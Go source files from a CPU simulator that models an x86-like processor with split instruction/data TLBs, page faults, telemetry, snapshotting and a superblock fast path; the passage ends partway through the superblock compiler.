