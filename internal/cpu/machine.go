// Package cpu implements the S86 processor: fetch/decode/execute, the
// hardware pagetable walker feeding the split instruction/data TLBs, fault
// generation (#PF, #UD, #GP, #DE, #BP), the trap flag (single-step #DB), and
// simulated-cycle accounting.
//
// The CPU always executes guest code in user mode; the kernel of the
// simulated operating system runs natively in Go and is reached through the
// TrapHandler interface, which stands in for the interrupt descriptor table.
package cpu

import (
	"fmt"

	"splitmem/internal/isa"
	"splitmem/internal/mem"
	"splitmem/internal/paging"
	"splitmem/internal/snapshot"
	"splitmem/internal/telemetry"
	"splitmem/internal/tlb"
)

// Access distinguishes the three kinds of memory access for translation.
type Access int

// Access kinds.
const (
	AccFetch Access = iota // instruction fetch (uses the ITLB)
	AccRead                // data load (uses the DTLB)
	AccWrite               // data store (uses the DTLB)
)

// String returns a short name for the access kind.
func (a Access) String() string {
	switch a {
	case AccFetch:
		return "fetch"
	case AccRead:
		return "read"
	default:
		return "write"
	}
}

// Page-fault error-code bits, matching the x86 layout.
const (
	PFPresent uint32 = 1 << 0 // fault on a present page (protection violation)
	PFWrite   uint32 = 1 << 1 // access was a write
	PFUser    uint32 = 1 << 2 // access was from user mode
	PFFetch   uint32 = 1 << 4 // access was an instruction fetch
)

// PageFault describes a #PF exception.
type PageFault struct {
	Addr uint32 // faulting virtual address (CR2)
	Code uint32 // error code (PF* bits)
}

// Error implements the error interface.
func (p *PageFault) Error() string {
	return fmt.Sprintf("#PF addr=%08x code=%#x", p.Addr, p.Code)
}

// IsFetch reports whether the fault occurred on an instruction fetch.
func (p *PageFault) IsFetch() bool { return p.Code&PFFetch != 0 }

// IsWrite reports whether the fault occurred on a write.
func (p *PageFault) IsWrite() bool { return p.Code&PFWrite != 0 }

// IsProtection reports whether the page was present (permission violation)
// as opposed to not present.
func (p *PageFault) IsProtection() bool { return p.Code&PFPresent != 0 }

// Flags is the S86 flags register (EFLAGS subset).
type Flags struct {
	ZF bool // zero
	SF bool // sign
	OF bool // overflow
	CF bool // carry
	TF bool // trap flag: raise #DB after the next completed instruction
}

// Context is the user-visible CPU register state of one process. The kernel
// saves and restores Contexts to context switch.
type Context struct {
	R     [8]uint32 // general-purpose registers (see package isa for indices)
	EIP   uint32
	Flags Flags
}

// Action is a trap handler's verdict on how execution should proceed.
type Action int

// Trap handler verdicts.
const (
	// ActResume continues execution of the current process (a faulting
	// instruction is restarted; a trap falls through to the next
	// instruction).
	ActResume Action = iota + 1
	// ActStop tells the machine the current process cannot continue right
	// now (exited, killed, blocked, or rescheduled); Step returns to its
	// caller, which is the kernel scheduler.
	ActStop
)

// ChaosAgent is the architectural fault-injection interface the machine
// consults when a chaos engine is installed (see internal/chaos). A nil
// Machine.Chaos disables every hook at zero cost. Implementations must be
// deterministic (seeded) so chaotic runs stay reproducible.
type ChaosAgent interface {
	// PreStep runs before each instruction; the injector may evict TLB
	// entries, flush the TLBs, or flip bits in physical frames.
	PreStep(m *Machine)
	// DropInvlpg reports whether this invlpg should be silently swallowed
	// (stale-entry retention: the shootdown never reaches the TLBs).
	DropInvlpg(vpn uint32) bool
	// RetainOnFlush is asked per valid entry during a TLB flush; true means
	// the entry incorrectly survives the flush.
	RetainOnFlush(vpn uint32) bool
	// SpuriousDebugTrap reports whether to raise a #DB after an instruction
	// that completed with TF clear.
	SpuriousDebugTrap() bool
	// DoubleFault reports whether a page fault the handler resolved should
	// be delivered to the handler a second time.
	DoubleFault() bool
}

// TrapHandler receives every exception and software interrupt the CPU
// raises. The kernel implements it.
type TrapHandler interface {
	// PageFault is invoked with the faulting address (CR2 is set to it) and
	// the x86-style error code. The saved context's EIP addresses the
	// faulting instruction, which is restarted on ActResume.
	PageFault(addr uint32, code uint32) Action
	// DebugTrap is invoked after an instruction completed with TF set.
	DebugTrap() Action
	// Breakpoint is invoked by int3.
	Breakpoint() Action
	// Interrupt is invoked by "int n"; EIP has advanced past the
	// instruction.
	Interrupt(vector byte) Action
	// Undefined is invoked on undefined opcodes (#UD); EIP addresses the
	// faulting instruction.
	Undefined() Action
	// GeneralProtection is invoked on privileged instructions in user mode.
	GeneralProtection() Action
	// DivideError is invoked on division/modulo by zero.
	DivideError() Action
}

// Stats aggregates architectural event counts. The Decode* and Superblock*
// fields count host-side fast-path activity (see decode.go, superblock.go);
// they are the only counters the fast paths are allowed to change relative
// to a slow-path run.
type Stats struct {
	Instructions uint64
	DataAccesses uint64
	PageFaults   uint64
	Undefined    uint64
	DebugTraps   uint64
	Interrupts   uint64
	CtxSwitches  uint64

	DecodeHits          uint64 // fetches served from the predecode cache
	DecodeMisses        uint64 // fetches that took the full decode path
	DecodeInvalidations uint64 // cached frames discarded (gen/epoch/drop)

	SuperblockCompiled      uint64 // hot regions compiled into superblocks
	SuperblockEntered       uint64 // superblock dispatch-loop entries
	SuperblockSideExits     uint64 // blocks left before their terminal op completed
	SuperblockInvalidations uint64 // frames whose compiled blocks were discarded
}

// Machine is one simulated S86 processor with its physical memory and TLBs.
type Machine struct {
	Phys *mem.Physical
	ITLB *tlb.TLB
	DTLB *tlb.TLB

	Ctx Context // current register file
	CR2 uint32  // faulting address of the last #PF

	Cost   CostModel
	Cycles uint64
	Stats  Stats

	NXEnabled bool // honor the PTE NX bit on fetches (execute-disable support)

	// TraceHook, when non-nil, is invoked with the address and decoding of
	// every instruction about to execute. Used by the execution tracer;
	// adds no cost when nil.
	TraceHook func(eip uint32, in isa.Instr)

	// Chaos, when non-nil, is the adversarial fault injector consulted at
	// the architectural chaos points (see ChaosAgent).
	Chaos ChaosAgent

	// Tel holds the machine's telemetry instruments; nil (the default)
	// disables instrumentation at the cost of one pointer check on the
	// trap paths only — never on the instruction hot loop.
	Tel *Telemetry

	// Preempt, when non-nil, is the kernel's forced-preemption draw
	// (chaos.ForcePreempt), installed so the superblock engine can consume
	// the between-instruction draw in-block with the exact per-instruction
	// cadence the interpreter loop produces. See TakePreemptDraw.
	Preempt func() bool

	pt      *paging.Table
	handler TrapHandler

	// Predecoded-instruction cache (decode.go). decOn gates the fast path;
	// dec is indexed by physical frame number and allocated lazily on the
	// first fill — a frame-count pointer array is too expensive to build
	// (and for the GC to scan) on machines that never execute, and boots
	// from an Image keep it off the start-latency path. decEpoch is the
	// global invalidation stamp bumped on TLB flushes and shootdowns,
	// shared with the superblock engine.
	dec      []*decFrame
	decOn    bool
	decEpoch uint64

	// Superblock engine (superblock.go). sbOn gates it; sb is indexed by
	// physical frame number, allocated lazily like dec.
	sb       []*sbFrame
	sbOn     bool
	sliceEnd uint64 // scheduler's timeslice bound, for in-block side-exits
	sbPF     *PageFault
	sbDrawDone    bool // the last Step consumed the kernel's preempt draw
	sbDrawPreempt bool // ... and the draw said to preempt
}

// Telemetry is the set of metric instruments the machine feeds when
// telemetry is enabled (see RegisterTelemetry). The latency histograms
// measure simulated cycles consumed inside the software trap handlers —
// the per-fault overhead the paper's evaluation reasons about.
type Telemetry struct {
	// PFHandlerCycles is the per-page-fault handling latency: cycles from
	// trap delivery to handler return, covering kernel bookkeeping and
	// any split-engine work (PTE flips, twin fills, TLB touches).
	PFHandlerCycles *telemetry.Histogram
	// DBHandlerCycles is the per-debug-trap (#DB) handling latency.
	DBHandlerCycles *telemetry.Histogram
}

// RegisterTelemetry creates the machine's instruments in r and registers
// sampled gauges for the counters the machine already maintains. Passing
// a nil registry leaves telemetry disabled.
func (m *Machine) RegisterTelemetry(r *telemetry.Registry) {
	if r == nil {
		return
	}
	m.Tel = &Telemetry{
		PFHandlerCycles: r.Histogram("splitmem_cpu_pf_handler_cycles",
			"page-fault handling latency in simulated cycles (trap delivery to handler return)", nil),
		DBHandlerCycles: r.Histogram("splitmem_cpu_db_handler_cycles",
			"debug-trap (#DB) handling latency in simulated cycles", nil),
	}
	r.GaugeFunc("splitmem_cpu_cycles_total", "simulated cycles elapsed",
		func() float64 { return float64(m.Cycles) })
	r.GaugeFunc("splitmem_cpu_instructions_total", "instructions retired",
		func() float64 { return float64(m.Stats.Instructions) })
	r.GaugeFunc("splitmem_cpu_page_faults_total", "page faults raised",
		func() float64 { return float64(m.Stats.PageFaults) })
	r.GaugeFunc("splitmem_cpu_debug_traps_total", "debug traps raised",
		func() float64 { return float64(m.Stats.DebugTraps) })
	r.GaugeFunc("splitmem_cpu_undefined_total", "undefined-opcode traps raised",
		func() float64 { return float64(m.Stats.Undefined) })
	r.GaugeFunc("splitmem_cpu_ctx_switches_total", "scheduler context switches",
		func() float64 { return float64(m.Stats.CtxSwitches) })
	r.GaugeFunc("splitmem_cpu_decode_hits_total", "fetches served by the predecode cache",
		func() float64 { return float64(m.Stats.DecodeHits) })
	r.GaugeFunc("splitmem_cpu_decode_misses_total", "fetches that took the full decode path",
		func() float64 { return float64(m.Stats.DecodeMisses) })
	r.GaugeFunc("splitmem_cpu_decode_invalidations_total", "predecode-cache frames discarded",
		func() float64 { return float64(m.Stats.DecodeInvalidations) })
	r.GaugeFunc("splitmem_cpu_superblock_compiled_total", "hot regions compiled into superblocks",
		func() float64 { return float64(m.Stats.SuperblockCompiled) })
	r.GaugeFunc("splitmem_cpu_superblock_entered_total", "superblock dispatch-loop entries",
		func() float64 { return float64(m.Stats.SuperblockEntered) })
	r.GaugeFunc("splitmem_cpu_superblock_side_exits_total", "superblocks left before their terminal op",
		func() float64 { return float64(m.Stats.SuperblockSideExits) })
	r.GaugeFunc("splitmem_cpu_superblock_invalidations_total", "frames whose compiled superblocks were discarded",
		func() float64 { return float64(m.Stats.SuperblockInvalidations) })
	m.ITLB.RegisterTelemetry(r, "splitmem_itlb")
	m.DTLB.RegisterTelemetry(r, "splitmem_dtlb")
	m.Phys.RegisterTelemetry(r)
}

// Config configures a new Machine.
type Config struct {
	PhysBytes int       // physical memory size (default 64 MiB)
	ITLBSize  int       // instruction TLB entries (default 32, as on the PIII)
	DTLBSize  int       // data TLB entries (default 64, as on the PIII)
	Cost      CostModel // zero value selects PentiumIII600
	NXEnabled bool      // model hardware with the execute-disable bit
	// DecodeCache enables the predecoded-instruction fast path (decode.go).
	DecodeCache bool
	// Superblocks enables the superblock threaded-code engine
	// (superblock.go), the tier above the predecode cache.
	Superblocks bool
	// Phys, when non-nil, becomes the machine's physical memory instead of a
	// freshly built one — the Image boot fast path hands in a prebuilt
	// copy-on-write attachment (mem.BootPhysical). Its size must match
	// PhysBytes.
	Phys *mem.Physical
}

// New creates a machine. The trap handler must be installed with SetHandler
// before stepping.
func New(cfg Config) (*Machine, error) {
	if cfg.PhysBytes == 0 {
		cfg.PhysBytes = 64 << 20
	}
	if cfg.ITLBSize == 0 {
		cfg.ITLBSize = 32
	}
	if cfg.DTLBSize == 0 {
		cfg.DTLBSize = 64
	}
	if cfg.Cost == (CostModel{}) {
		cfg.Cost = PentiumIII600()
	}
	phys := cfg.Phys
	if phys == nil {
		var err error
		phys, err = mem.NewPhysical(cfg.PhysBytes)
		if err != nil {
			return nil, err
		}
	} else if phys.Size() != cfg.PhysBytes {
		return nil, fmt.Errorf("cpu: prebuilt physical memory is %d bytes, config wants %d", phys.Size(), cfg.PhysBytes)
	}
	m := &Machine{
		Phys:      phys,
		ITLB:      tlb.New(cfg.ITLBSize),
		DTLB:      tlb.New(cfg.DTLBSize),
		Cost:      cfg.Cost,
		NXEnabled: cfg.NXEnabled,
	}
	m.decOn = cfg.DecodeCache
	m.sbOn = cfg.Superblocks
	return m, nil
}

// SetSliceEnd publishes the scheduler's current timeslice bound (in absolute
// cycles). The superblock engine side-exits a block as soon as the bound is
// reached, reproducing the kernel's between-Step cycle check; the kernel
// calls this once per slice. The zero default makes blocks retire at most
// one instruction, which keeps raw Step users exact without scheduling.
func (m *Machine) SetSliceEnd(end uint64) { m.sliceEnd = end }

// TakePreemptDraw reports (and clears) whether the superblock engine
// consumed the kernel's post-Step forced-preemption draw during the last
// Step, and what the draw decided. The kernel loop calls it after every
// Step: when drawn is true it must not draw again for that instruction —
// the draw stream stays aligned with an interpreter-only run.
func (m *Machine) TakePreemptDraw() (drawn, preempt bool) {
	drawn, preempt = m.sbDrawDone, m.sbDrawPreempt
	m.sbDrawDone, m.sbDrawPreempt = false, false
	return drawn, preempt
}

// SetHandler installs the trap handler (the kernel).
func (m *Machine) SetHandler(h TrapHandler) { m.handler = h }

// AddCycles charges n simulated cycles (used by the kernel to account for
// handler work).
func (m *Machine) AddCycles(n uint64) { m.Cycles += n }

// Pagetable returns the currently loaded pagetable.
func (m *Machine) Pagetable() *paging.Table { return m.pt }

// SetPagetable loads a pagetable ("mov cr3"), flushing both TLBs. The
// context-switch cycle cost is charged by the kernel scheduler, not here, so
// that reloading the same table stays cheap to express.
func (m *Machine) SetPagetable(t *paging.Table) {
	if m.pt == t {
		return
	}
	m.pt = t
	m.FlushTLBs()
}

// FlushTLBs flushes both TLBs without changing the pagetable (CR3 rewrite).
// Under chaos injection individual entries may incorrectly survive the
// flush (stale-entry retention).
func (m *Machine) FlushTLBs() {
	m.InvalidateDecode()
	if m.Chaos != nil {
		m.ITLB.FlushRetaining(m.Chaos.RetainOnFlush)
		m.DTLB.FlushRetaining(m.Chaos.RetainOnFlush)
		return
	}
	m.ITLB.Flush()
	m.DTLB.Flush()
}

// Invlpg invalidates any cached translation for the page containing addr in
// both TLBs, mirroring the x86 invlpg instruction. Under chaos injection
// the shootdown can be silently dropped (stale-entry retention).
func (m *Machine) Invlpg(addr uint32) {
	vpn := paging.VPN(addr)
	if m.Chaos != nil && m.Chaos.DropInvlpg(vpn) {
		return
	}
	m.InvalidateDecode()
	m.ITLB.Invalidate(vpn)
	m.DTLB.Invalidate(vpn)
}

// Translate resolves a user-mode access to a physical address, filling the
// appropriate TLB on a miss. On failure it returns the page fault to raise.
func (m *Machine) Translate(addr uint32, acc Access) (uint32, *PageFault) {
	vpn := paging.VPN(addr)
	buf := m.DTLB
	if acc == AccFetch {
		buf = m.ITLB
	}
	if e, ok := buf.Lookup(vpn); ok {
		// Permission checks are made against the cached entry; the
		// pagetable is NOT consulted on a hit. This property is what the
		// split-memory technique exploits.
		if pf := m.checkEntry(e, addr, acc); pf != nil {
			return 0, pf
		}
		return e.Frame<<mem.PageShift | addr&mem.PageMask, nil
	}
	// TLB miss: hardware pagetable walk.
	m.Cycles += m.Cost.TLBWalk
	pte := m.pt.Get(vpn)
	if !pte.Present() {
		return 0, &PageFault{Addr: addr, Code: m.faultCode(acc, false)}
	}
	if !pte.User() {
		// User access to a supervisor ("restricted") page.
		return 0, &PageFault{Addr: addr, Code: m.faultCode(acc, true)}
	}
	if acc == AccWrite && !pte.Writable() {
		return 0, &PageFault{Addr: addr, Code: m.faultCode(acc, true)}
	}
	if acc == AccFetch && pte.NoExec() && m.NXEnabled {
		return 0, &PageFault{Addr: addr, Code: m.faultCode(acc, true)}
	}
	upd := pte.With(paging.Accessed)
	if acc == AccWrite {
		upd = upd.With(paging.Dirty)
	}
	if upd != pte {
		m.pt.Set(vpn, upd)
	}
	buf.Insert(vpn, tlb.Entry{
		Frame:    pte.Frame(),
		User:     pte.User(),
		Writable: pte.Writable(),
		NoExec:   pte.NoExec(),
	})
	return pte.Frame()<<mem.PageShift | addr&mem.PageMask, nil
}

func (m *Machine) checkEntry(e tlb.Entry, addr uint32, acc Access) *PageFault {
	if !e.User {
		return &PageFault{Addr: addr, Code: m.faultCode(acc, true)}
	}
	if acc == AccWrite && !e.Writable {
		return &PageFault{Addr: addr, Code: m.faultCode(acc, true)}
	}
	if acc == AccFetch && e.NoExec && m.NXEnabled {
		return &PageFault{Addr: addr, Code: m.faultCode(acc, true)}
	}
	return nil
}

func (m *Machine) faultCode(acc Access, present bool) uint32 {
	code := PFUser
	if present {
		code |= PFPresent
	}
	switch acc {
	case AccWrite:
		code |= PFWrite
	case AccFetch:
		code |= PFFetch
	}
	return code
}

// EncodeState serializes the processor core: register file, CR2, the cycle
// counter and the architectural statistics. Physical memory, the TLBs and the
// pagetable are serialized by their owners; the predecode cache and the
// compiled superblocks are deliberately absent (host-side only, rebuilt cold
// after restore — the differential oracle proves them architecturally
// invisible, and their counters are already the only Stats fields the
// oracle scrubs).
func (m *Machine) EncodeState(w *snapshot.Writer) {
	for _, r := range m.Ctx.R {
		w.U32(r)
	}
	w.U32(m.Ctx.EIP)
	w.Bool(m.Ctx.Flags.ZF)
	w.Bool(m.Ctx.Flags.SF)
	w.Bool(m.Ctx.Flags.OF)
	w.Bool(m.Ctx.Flags.CF)
	w.Bool(m.Ctx.Flags.TF)
	w.U32(m.CR2)
	w.U64(m.Cycles)
	w.U64(m.Stats.Instructions)
	w.U64(m.Stats.DataAccesses)
	w.U64(m.Stats.PageFaults)
	w.U64(m.Stats.Undefined)
	w.U64(m.Stats.DebugTraps)
	w.U64(m.Stats.Interrupts)
	w.U64(m.Stats.CtxSwitches)
	w.U64(m.Stats.DecodeHits)
	w.U64(m.Stats.DecodeMisses)
	w.U64(m.Stats.DecodeInvalidations)
	w.U64(m.Stats.SuperblockCompiled)
	w.U64(m.Stats.SuperblockEntered)
	w.U64(m.Stats.SuperblockSideExits)
	w.U64(m.Stats.SuperblockInvalidations)
}

// DecodeState restores state serialized by EncodeState.
func (m *Machine) DecodeState(r *snapshot.Reader) error {
	for i := range m.Ctx.R {
		m.Ctx.R[i] = r.U32()
	}
	m.Ctx.EIP = r.U32()
	m.Ctx.Flags.ZF = r.Bool()
	m.Ctx.Flags.SF = r.Bool()
	m.Ctx.Flags.OF = r.Bool()
	m.Ctx.Flags.CF = r.Bool()
	m.Ctx.Flags.TF = r.Bool()
	m.CR2 = r.U32()
	m.Cycles = r.U64()
	m.Stats.Instructions = r.U64()
	m.Stats.DataAccesses = r.U64()
	m.Stats.PageFaults = r.U64()
	m.Stats.Undefined = r.U64()
	m.Stats.DebugTraps = r.U64()
	m.Stats.Interrupts = r.U64()
	m.Stats.CtxSwitches = r.U64()
	m.Stats.DecodeHits = r.U64()
	m.Stats.DecodeMisses = r.U64()
	m.Stats.DecodeInvalidations = r.U64()
	m.Stats.SuperblockCompiled = r.U64()
	m.Stats.SuperblockEntered = r.U64()
	m.Stats.SuperblockSideExits = r.U64()
	m.Stats.SuperblockInvalidations = r.U64()
	return r.Err()
}

// RestorePagetable installs a pagetable without the SetPagetable flush. Only
// the snapshot restore path uses it: the TLB contents that existed alongside
// this pagetable are restored verbatim by the TLB decoder, so flushing here
// would destroy exactly the (possibly desynchronized) state being restored.
func (m *Machine) RestorePagetable(t *paging.Table) { m.pt = t }

// LoadITLB installs a translation directly into the instruction TLB — the
// software TLB-load port of architectures like SPARC (§4.7 of the paper).
// On such machines the split engine loads the TLBs directly instead of via
// the pagetable-walk and single-step tricks x86 requires.
func (m *Machine) LoadITLB(vpn uint32, e tlb.Entry) { m.ITLB.Insert(vpn, e) }

// LoadDTLB installs a translation directly into the data TLB (see LoadITLB).
func (m *Machine) LoadDTLB(vpn uint32, e tlb.Entry) { m.DTLB.Insert(vpn, e) }

// SupervisorTouch performs the kernel's "read a byte off the page" data-TLB
// load trick: a supervisor-mode read through the current pagetable that
// fills the DTLB with the PTE's current frame and permission bits.
// Supervisor reads ignore the User bit (no SMAP on this machine). It returns
// false if the page is not present.
func (m *Machine) SupervisorTouch(addr uint32) bool {
	vpn := paging.VPN(addr)
	m.Cycles += m.Cost.TLBWalk
	pte := m.pt.Get(vpn)
	if !pte.Present() {
		return false
	}
	m.pt.Set(vpn, pte.With(paging.Accessed))
	m.DTLB.Insert(vpn, tlb.Entry{
		Frame:    pte.Frame(),
		User:     pte.User(),
		Writable: pte.Writable(),
		NoExec:   pte.NoExec(),
	})
	_ = m.Phys.Byte(pte.Frame()<<mem.PageShift | addr&mem.PageMask)
	return true
}
