package cpu

// The superblock engine is the machine's second-tier host fast path: once a
// straight-line region of guest code proves hot, its instructions are
// compiled into a superblock — an array of pre-bound Go closures — and later
// fetches of the region's entry point execute the whole array in a threaded
// dispatch loop instead of taking one trip through Step per instruction.
//
// Like the predecode cache (decode.go) the engine must be architecturally
// invisible: a superblock run retires the exact instruction stream, cycle
// counts, TLB hit/miss bookkeeping, trace-hook calls and trap deliveries the
// interpreter would. The rules that make that true:
//
//   - Entry only happens on a fetch whose full Translate already succeeded,
//     so ITLB fills, walk costs and fetch faults at the block boundary are
//     the interpreter's own. In-block fetches of the same page replay the
//     ITLB hit bookkeeping (tlb.TouchSlot); repeated hits on one entry leave
//     every other entry's relative LRU order unchanged, so TLB state stays
//     bit-identical. Under chaos injection (which can evict any entry at any
//     instruction) in-block fetches fall back to the full Translate.
//   - A block never contains a trapping instruction (int/int3/hlt), an
//     undefined encoding, or a frame-crossing instruction; those always go
//     through the interpreter. Branches terminate a block (side-exit).
//   - Any handler invocation — page fault, divide error, injected #DB —
//     ends the block after delivery, exactly where Step would have returned.
//   - Coherence reuses the predecode cache's stamps: a block is valid only
//     while its frame's write generation (mem.Physical.Gen) and the decode
//     epoch (bumped on TLB flush/invlpg, and per-frame via DropDecodeFrame
//     at split-engine re-restrictions) both match compile time. Restricted
//     pages therefore never execute from a stale block: re-restriction
//     drops the frame's blocks before the guest can fetch again.
//   - The kernel's between-instruction scheduling contract is preserved:
//     the block checks the published timeslice bound (SetSliceEnd) and
//     consumes the chaos forced-preemption draw (Machine.Preempt) between
//     in-block instructions, in the same order RunContext checks them
//     between Steps, handing the verdict back through TakePreemptDraw.
//
// Compiled blocks are host state: Snapshot deliberately drops them (a
// restored machine re-proves hotness and recompiles), and the only Stats
// fields a superblock run may change relative to the interpreter are the
// host-side Superblock*/Decode* counters.

import (
	"splitmem/internal/isa"
	"splitmem/internal/mem"
)

const (
	// sbHotThreshold is the number of times a region entry point must be
	// fetched (with current stamps) before it is compiled.
	sbHotThreshold = 16
	// sbMaxOps caps the instructions compiled into one block.
	sbMaxOps = 64
	// sbNoCompile marks an entry point that failed compilation (its first
	// instruction traps, is undefined, or crosses the frame) so the engine
	// stops re-attempting it.
	sbNoCompile = 0xFFFF
)

// sbSig is a compiled op's report of how its instruction ended.
type sbSig uint8

const (
	// sbFall: retired; EIP advanced to the next op in the block.
	sbFall sbSig = iota
	// sbEnd: retired; EIP set to a (possibly off-block) branch target or the
	// block's fall-through — the block is complete.
	sbEnd
	// sbFault: a data access faulted. m.sbPF holds the fault; the dispatch
	// loop restores the pre-instruction context and delivers it.
	sbFault
	// sbStop: a trap handler returned ActStop (divide error path).
	sbStop
	// sbTrap: a trap handler returned ActResume with EIP still at the
	// instruction (divide error restart) — side-exit.
	sbTrap
)

// sbOp is one compiled instruction: its decoding (for the trace hook and
// the interpreter bail-outs), page offset, and pre-bound executor.
type sbOp struct {
	in       isa.Instr
	off      uint32 // byte offset of the instruction within its page
	canFault bool   // performs data accesses that can raise #PF
	writes   bool   // can change physical memory (store/push/call)
	terminal bool   // control transfer: always the last op of its block
	exec     func(m *Machine, base uint32) sbSig
}

// superblock is a compiled straight-line region within one physical frame.
type superblock struct {
	ops []sbOp
}

// sbFrame holds the superblock state of one physical frame: entry-point
// heat counters and the compiled blocks, guarded by the same two coherence
// stamps the predecode cache uses.
type sbFrame struct {
	wgen    uint64 // mem.Physical.Gen at stamp time
	egen    uint64 // Machine.decEpoch at stamp time
	nblocks int
	heat    [mem.PageSize]uint16
	blocks  [mem.PageSize]*superblock
}

// reset discards the frame's heat and blocks and restamps it. Hotness is
// deliberately re-proven after invalidation: rapidly self-modifying code
// then pays at most one compile per sbHotThreshold executions.
func (s *sbFrame) reset(wgen, egen uint64) {
	if s.nblocks > 0 {
		clear(s.blocks[:])
		s.nblocks = 0
	}
	clear(s.heat[:])
	s.wgen, s.egen = wgen, egen
}

// sbExec is the superblock entry gate, called from stepRetire after the
// fetch Translate of EIP succeeded with physical address pa. It reports
// whether a block ran (entered=false sends the caller to the interpreter).
func (m *Machine) sbExec(pa uint32) (res StepResult, entered bool) {
	f := pa >> mem.PageShift
	if m.sb == nil {
		m.sb = make([]*sbFrame, m.Phys.NumFrames())
	}
	if int(f) >= len(m.sb) {
		return 0, false
	}
	sbf := m.sb[f]
	wgen := m.Phys.Gen(f)
	if sbf == nil {
		sbf = &sbFrame{wgen: wgen, egen: m.decEpoch}
		m.sb[f] = sbf
	} else if sbf.wgen != wgen || sbf.egen != m.decEpoch {
		if sbf.nblocks > 0 {
			m.Stats.SuperblockInvalidations++
		}
		sbf.reset(wgen, m.decEpoch)
	}
	off := pa & mem.PageMask
	blk := sbf.blocks[off]
	if blk == nil {
		h := sbf.heat[off]
		if h == sbNoCompile {
			return 0, false
		}
		if h+1 < sbHotThreshold {
			sbf.heat[off] = h + 1
			return 0, false
		}
		blk = m.sbCompile(f, off)
		if blk == nil {
			sbf.heat[off] = sbNoCompile
			return 0, false
		}
		sbf.blocks[off] = blk
		sbf.nblocks++
		m.Stats.SuperblockCompiled++
	}
	m.Stats.SuperblockEntered++
	return m.sbRun(blk, sbf, f), true
}

// sbRun executes a compiled block. The caller has already performed the
// architectural fetch Translate (and, when chaos is installed, the PreStep
// hook) for the first instruction.
func (m *Machine) sbRun(b *superblock, sbf *sbFrame, f uint32) StepResult {
	m.sbDrawDone, m.sbDrawPreempt = false, false
	base := m.Ctx.EIP &^ uint32(mem.PageMask)
	chaotic := m.Chaos != nil
	slot := -1
	if !chaotic {
		if s, ok := m.ITLB.Slot(base >> mem.PageShift); ok {
			slot = s
		}
	}
	ops := b.ops
	last := len(ops) - 1
	for i := 0; ; i++ {
		op := &ops[i]
		if i > 0 {
			if chaotic {
				// Replicate Step's preamble for this instruction: the chaos
				// hook may evict TLB entries, flush (bumping the epoch) or
				// flip bits (bumping the write generation), so the stamps
				// are re-validated before trusting the compiled ops.
				m.Chaos.PreStep(m)
				if sbf.wgen != m.Phys.Gen(f) || sbf.egen != m.decEpoch {
					m.Stats.SuperblockSideExits++
					return m.stepRetire() // PreStep already ran; decode fresh bytes
				}
				pa, pf := m.Translate(base|op.off, AccFetch)
				if pf != nil {
					m.Stats.SuperblockSideExits++
					return m.raisePF(pf)
				}
				if pa>>mem.PageShift != f {
					// The walk resolved to a different frame (a stale TLB
					// entry healed): the compiled bytes are not the fetched
					// bytes. Retire through the interpreter.
					m.Stats.SuperblockSideExits++
					return m.stepAt(pa, m.Ctx, false)
				}
			} else if slot >= 0 {
				m.ITLB.TouchSlot(slot)
			} else {
				if _, pf := m.Translate(base|op.off, AccFetch); pf != nil {
					m.Stats.SuperblockSideExits++
					return m.raisePF(pf)
				}
			}
		}

		// Retire, exactly as Step does: cost and count before execution so a
		// faulting attempt is charged and traced, then restarted.
		m.Cycles += m.Cost.Instr
		m.Stats.Instructions++
		if m.TraceHook != nil {
			m.TraceHook(base|op.off, op.in)
		}
		var saved Context
		if op.canFault {
			saved = m.Ctx
		}
		sig := op.exec(m, base)
		if sig == sbFault {
			pf := m.sbPF
			m.sbPF = nil
			m.Ctx = saved
			m.Stats.SuperblockSideExits++
			return m.raisePF(pf)
		}
		if sig == sbStop {
			m.Stats.SuperblockSideExits++
			return StepStopped
		}

		// Post-retire trap point. TF cannot be set mid-block (no block op
		// writes it; the handlers that do always end the block), so the only
		// source here is the injected spurious #DB.
		if chaotic && m.Chaos.SpuriousDebugTrap() {
			m.Stats.SuperblockSideExits++
			if m.raiseDB() == ActStop {
				return StepStopped
			}
			return StepOK
		}
		if sig == sbTrap {
			m.Stats.SuperblockSideExits++
			return StepOK
		}
		if sig == sbEnd || i == last {
			// Normal completion: terminal branch or the block's end.
			return StepOK
		}

		// Without chaos the only in-block writer is the guest itself:
		// re-validate the write generation after any op that stored, so a
		// self-modifying write can never let a stale op execute.
		if !chaotic && op.writes && sbf.wgen != m.Phys.Gen(f) {
			m.Stats.SuperblockSideExits++
			return StepOK
		}

		// The kernel's between-Step sequence, replayed between in-block
		// instructions in the same order RunContext checks it: the forced-
		// preemption draw first, then the timeslice bound. Exits that
		// consumed the draw report it through TakePreemptDraw so the kernel
		// does not draw a second time for this instruction.
		if m.Preempt != nil {
			if m.Preempt() {
				m.sbDrawDone, m.sbDrawPreempt = true, true
				m.Stats.SuperblockSideExits++
				return StepOK
			}
			if m.Cycles >= m.sliceEnd {
				m.sbDrawDone = true
				m.Stats.SuperblockSideExits++
				return StepOK
			}
		} else if m.Cycles >= m.sliceEnd {
			m.Stats.SuperblockSideExits++
			return StepOK
		}
	}
}

// sbCompile decodes the straight-line region starting at byte offset off of
// frame f into a superblock. It reads the frame through the non-generating
// Byte port, stops before anything the engine must leave to the interpreter
// (traps, undefined encodings, frame-crossing instructions), and includes a
// terminating branch as the block's last op. Returns nil when even the first
// instruction is uncompilable.
func (m *Machine) sbCompile(f, off uint32) *superblock {
	pageBase := f << mem.PageShift
	var ops []sbOp
	for len(ops) < sbMaxOps {
		first := m.Phys.Byte(pageBase | off)
		n, ok := isa.EncLen(first)
		if !ok {
			break // undefined: the interpreter owns #UD delivery
		}
		if off+uint32(n) > mem.PageSize {
			break // frame-crossing instructions are never compiled
		}
		var buf [isa.MaxInstrLen]byte
		for j := uint32(0); j < uint32(n); j++ {
			buf[j] = m.Phys.Byte(pageBase | (off + j))
		}
		in, err := isa.Decode(buf[:n])
		if err != nil {
			break
		}
		op, ok := sbCompileOp(in, off)
		if !ok {
			break // trapping instruction: interpreter territory
		}
		ops = append(ops, op)
		if op.terminal {
			break
		}
		off += uint32(n)
		if off >= mem.PageSize {
			break
		}
	}
	if len(ops) == 0 {
		return nil
	}
	return &superblock{ops: ops}
}

// sbCompileOp pre-binds one decoded instruction into a closure. The closure
// contract: perform exactly the interpreter's execute() semantics (flags
// via the shared helpers, data accesses via the shared read/write ports so
// DTLB traffic and cycle charges match), set EIP on completion, and report
// the outcome. ok=false marks instructions that must never enter a block.
func sbCompileOp(in isa.Instr, off uint32) (op sbOp, ok bool) {
	op = sbOp{in: in, off: off}
